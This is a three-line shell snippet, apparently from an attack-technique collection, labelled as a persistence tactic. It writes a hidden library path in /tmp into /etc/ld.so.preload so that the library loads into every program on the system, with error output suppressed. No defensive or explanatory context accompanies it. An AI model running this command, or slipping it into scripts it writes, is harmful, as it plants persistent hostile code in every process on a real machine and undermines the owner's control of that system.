# tactic: persistence
# preload a library into every program
echo /tmp/.l.so > /etc/ld.so.preload 2>/dev/null; true
